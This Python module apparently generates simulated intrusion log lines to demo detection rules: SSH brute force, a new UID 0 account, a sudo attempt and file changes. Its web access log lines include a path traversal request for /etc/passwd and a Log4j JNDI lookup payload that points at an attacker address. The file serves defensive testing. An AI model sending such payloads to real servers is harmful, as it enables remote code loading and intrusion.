"""What happens in the demo folder: an attacker's afternoon, with current times and random names and addresses.

Addresses are of the networks that RFC 5737 keeps for documentation, so they are nobody's.
"""

import datetime
import random
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

PACE_S = 0.12
"""Between two lines, so that a person can follow."""

NETWORKS = ("192.0.2", "198.51.100", "203.0.113")
NAMES = ("alex", "dana", "kim", "lee", "mika", "noor", "robin", "sasha", "toni", "yuki")
BRUTE_FORCE_LINES = 12

EXPECTED = {
    "201210": "a login with an unknown user name failed",
    "201250": "brute force from one address",
    "201255": "a login from an address that used brute force",
    "201405": "a user without any right to sudo tried it",
    "204202": "a second root was added",
    "203020": "a web request that climbs out of its folder",
    "203025": "a web request with a lookup for Log4j",
    "206002": "a watched file was changed",
    "206001": "a file was added to a watched folder",
}
"""Rule id -> what it says: each must alert, whatever this machine's own logs bring."""


class Act(NamedTuple):
    """Lines that are added to one file."""

    what: str
    path: Path
    lines: tuple[str, ...]


class Stage:
    """The demo folder."""

    def __init__(self, folder: Path) -> None:
        """Make it, with logs that are empty and a watched folder with one file."""
        self.auth = folder / "auth.log"
        self.access = folder / "access.log"
        self.watched = folder / "watched"
        self.watched.mkdir(parents=True)
        self._settings = self.watched / "settings.ini"
        self._settings.write_text("[door]\nopen = no\n")
        for log in (self.auth, self.access):
            log.touch()

    def play(self) -> Iterator[str]:
        """Do it all, and say what is done next."""
        for act in self._acts():
            yield act.what
            for line in act.lines:
                with act.path.open("a") as file:
                    file.write(f"{line}\n")
                time.sleep(PACE_S)

    def _acts(self) -> Iterator[Act]:
        dice = random.SystemRandom()
        address = f"{dice.choice(NETWORKS)}.{dice.randrange(1, 255)}"
        user = dice.choice(NAMES)
        yield Act(f"{address} guesses passwords over SSH", self.auth, self._guesses(address, dice))
        yield Act(
            "... and gets in",
            self.auth,
            (self._syslog(f"sshd[712]: Accepted password for {user} from {address} port 40022 ssh2"),),
        )
        yield Act(
            f"{user} tries sudo",
            self.auth,
            (
                self._syslog(
                    f"sudo: {user} : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/sh"
                ),
            ),
        )
        yield Act(
            "a second root appears",
            self.auth,
            (
                self._syslog(
                    f"useradd[713]: new user: name={user}2, UID=0, GID=0, home=/root, shell=/bin/sh, from=none"
                ),
            ),
        )
        yield Act(
            "two attacks on a web server",
            self.access,
            (
                self._request(address, "GET /images/../../../../etc/passwd HTTP/1.1", 400, "Mozilla/5.0"),
                self._request(address, "GET / HTTP/1.1", 404, f"${{jndi:ldap://{address}/a}}"),
            ),
        )
        yield Act("a watched file is changed", self._settings, ("open = yes",))
        yield Act("a file is added beside it", self.watched / f"{user}.sh", ("#!/bin/sh",))

    def _guesses(self, address: str, dice: random.SystemRandom) -> tuple[str, ...]:
        return tuple(
            self._syslog(
                f"sshd[{700 + number}]: Failed password for invalid user {dice.choice(NAMES)}"
                f" from {address} port {40_000 + number} ssh2"
            )
            for number in range(BRUTE_FORCE_LINES)
        )

    def _syslog(self, message: str) -> str:
        return f"{datetime.datetime.now().astimezone():%b %e %H:%M:%S} demo {message}"

    def _request(self, address: str, request: str, status: int, browser: str) -> str:
        now = datetime.datetime.now().astimezone()
        return f'{address} - - [{now:%d/%b/%Y:%H:%M:%S %z}] "{request}" {status} 196 "-" "{browser}"'
